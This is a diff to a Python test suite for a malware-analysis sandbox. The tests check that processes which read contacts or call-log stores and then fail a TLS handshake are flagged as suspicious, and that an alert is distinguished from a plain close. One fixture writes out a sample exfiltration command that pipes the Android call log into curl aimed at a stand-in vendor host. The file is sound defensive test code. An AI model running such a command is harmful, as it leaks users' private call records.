@@ -16,7 +16,7 @@ from sandbox.core.analysis import Verdict
 from sandbox.detect.findings import detect
 from sandbox.detect.sources import Payload
 from sandbox.detect.verdict import OpaqueSend, VerdictResult, opaque_reason, verdict
-from sandbox.monitor.events import Connect, Event, Exec, Open
+from sandbox.monitor.events import Connect, Event, Exec, Fork, Open
 from sandbox.monitor.summary import Summary, summarize
 from sandbox.network.logs import TlsFailure
 
@@ -36,8 +36,15 @@ def trace(*, read_at: float | None = T0, connect_at: float = T0 + 10, pid: int =
     return summarize(events)
 
 
-def pinned(ts: float, ip: str = "203.0.113.5") -> TlsFailure:
-    return TlsFailure(ts, "10.88.0.3:40000", f"{ip}:443", "pin.vendor.example", "certificate unknown")
+# mitmproxy's text when the client answers the certificate with a TLS alert
+ALERT = ("The client does not trust the proxy's certificate for pin.vendor.example "
+         "(OpenSSL Error([('SSL routines', '', 'sslv3 alert certificate unknown')]))")
+CLOSED = ("The client disconnected during the handshake. If this happens consistently for pin.vendor.example, "
+          "this may indicate that the client does not trust the proxy's certificate.")
+
+
+def pinned(ts: float, ip: str = "203.0.113.5", error: str = ALERT, ms: float | None = 41.0) -> TlsFailure:
+    return TlsFailure(ts, "10.88.0.3:40000", f"{ip}:443", "pin.vendor.example", error, ms)
 
 
 def udp(data: bytes, ts: float = T0 + 10.5, ip: str = "203.0.113.5", port: int = 443) -> Payload:
@@ -62,8 +69,50 @@ def test_store_reader_with_pinned_tls_is_suspicious() -> None:
     assert result.verdict == "suspicious"
     (why,) = result.reasons[1:]
     assert "sysoper (pid 900) read the contacts store" in why
-    assert "pin.vendor.example (203.0.113.5:443)" in why and "pinned TLS" in why
+    assert "pin.vendor.example (203.0.113.5:443)" in why
+    assert "rejected the fakenet's certificate with TLS alert certificate_unknown" in why
     assert "device time 2027-01-15" in why
+
+
+def test_a_handshake_closed_without_an_alert_is_not_called_pinned() -> None:
+    """Only the client's alert says it rejected the certificate; a close may be a timeout."""
+    result = verdict([], trace(), [pinned(T0 + 10.2, error=CLOSED, ms=812.4)])
+    assert result.verdict == "suspicious"
+    (why,) = result.reasons[1:]
+    assert "closed during the handshake after 812 ms, no alert" in why
+    assert "rejected" not in why and "pinned" not in why
+
+
+def test_tls_alert_names() -> None:
+    assert pinned(0).alert == "certificate_unknown" and pinned(0).rejected_certificate
+    tlsv1 = pinned(0, error="[('SSL routines', '', 'tlsv1 alert unknown ca')]")
+    assert tlsv1.alert == "unknown_ca" and tlsv1.rejected_certificate
+    other = pinned(0, error="[('SSL routines', '', 'tlsv1 alert protocol version')]", ms=3.0)
+    assert other.alert == "protocol_version" and not other.rejected_certificate
+    assert other.what_happened() == "ended the handshake with TLS alert protocol_version after 3 ms"
+    assert pinned(0, error=CLOSED, ms=None).what_happened() == "closed during the handshake, no alert"
+
+
+def test_content_query_counts_as_a_read_for_its_parent_and_their_children() -> None:
+    """`sh -c 'content query --uri content://call_log/calls | curl …'`: the
+    content command's parent (sh) gets the rows, so curl, a child of sh,
+    counts as a reader of call_log when its handshake fails."""
+    sh, content, curl = 700, 701, 702
+    events: list[Event] = [
+        Exec(sh, T0 - 5, "/bin/sh", ("sh", "-c", "content query … | curl …")),
+        Fork(sh, content, T0 - 1),
+        Fork(sh, curl, T0 - 1),
+        Exec(content, T0, "/system/bin/content",
+             ("content", "query", "--uri", "content://call_log/calls"), True, False, True, "call_log"),
+        Exec(curl, T0, "/usr/bin/curl", ("curl", "--data-binary", "@-", "https://pin.vendor.example/")),
+        Connect(curl, T0 + 1, "AF_INET", "203.0.113.5", 443, True, False, 7, "TCP"),
+    ]
+    result = verdict([], summarize(events), [pinned(T0 + 1.2, error=CLOSED, ms=5000.0)])
+    assert result.verdict == "suspicious", result.reasons
+    (why,) = result.reasons[1:]
+    assert why.startswith("curl (pid 702), child of sh (pid 700), whose ancestor sh (pid 700) read the call_log store")
+    readers = {(r.process.pid, r.store) for r in summarize(events).store_readers()}
+    assert {(sh, "call_log"), (content, "call_log")} <= readers
 
 
 def test_pinned_tls_from_a_process_that_read_nothing_is_clean() -> None:
@@ -110,7 +159,7 @@ def test_no_syscall_summary_is_clean_and_says_what_was_not_checked() -> None:
     result = verdict([], None, [pinned(T0)], [udp(RANDOM)])
     assert result == VerdictResult("clean", result.reasons)
     assert any("no syscall summary" in r for r in result.reasons)
-    assert any("1 pinned-TLS connection(s) and 1 opaque payload(s)" in r for r in result.reasons)
+    assert any("1 failed TLS handshake(s) and 1 opaque payload(s)" in r for r in result.reasons)
 
 
 def test_nothing_at_all_is_clean() -> None:
